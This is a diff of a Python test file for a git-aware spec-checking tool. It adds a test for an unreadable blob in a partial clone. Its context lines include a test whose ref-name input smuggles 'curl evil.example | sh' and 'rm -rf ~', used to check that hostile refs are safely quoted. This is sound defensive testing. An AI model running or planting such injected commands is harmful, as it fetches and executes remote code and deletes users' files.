@@ -93,3 +93,22 @@ def test_a_hostile_ref_is_quoted_on_one_line(tmp_path):
     message = str(err.value)
     assert "\n" not in message
     assert "'+refs/tags/1x; curl evil.example | sh\\nrm -rf ~:refs/tags/1x; curl evil.example | sh\\nrm -rf ~'" in message
+
+
+def test_a_blob_missing_from_a_partial_clone_is_named_and_the_run_goes_on(tmp_path):
+    spec = b"openapi: 3.0.3\ninfo: {title: t, version: '1'}\npaths: {}\n"
+    git(tmp_path, "init", "-q", "-b", "main")
+    _commit_files(tmp_path, {"openapi.yaml": spec, "app.py": b"print('v1')\n"})
+    oid = git(tmp_path, "rev-parse", "main:openapi.yaml").strip()
+    (tmp_path / ".git" / "objects" / oid[:2] / oid[2:]).unlink()  # what a blobless clone lacks until fetched
+    (tmp_path / "openapi.yaml").write_bytes(spec.replace(b"paths: {}", b"paths:\n  /a: {get: {responses: {'200': {description: ok}}}}"))
+    base = BaseTree("main", tmp_path)
+    try:
+        assert base.read_bytes("openapi.yaml") is None and base.unreadable == ["openapi.yaml"]
+        assert base.read_bytes("app.py") == b"print('v1')\n"  # the batch stream is still in step
+    finally:
+        base.close()
+    proc = run_cli("check", "--base", "main", ".", cwd=tmp_path)
+    assert proc.returncode in (0, 1), proc.stderr
+    assert "Traceback" not in proc.stderr and "CL005" not in proc.stdout
+    assert "v1's openapi.yaml could not be read from git" in proc.stderr
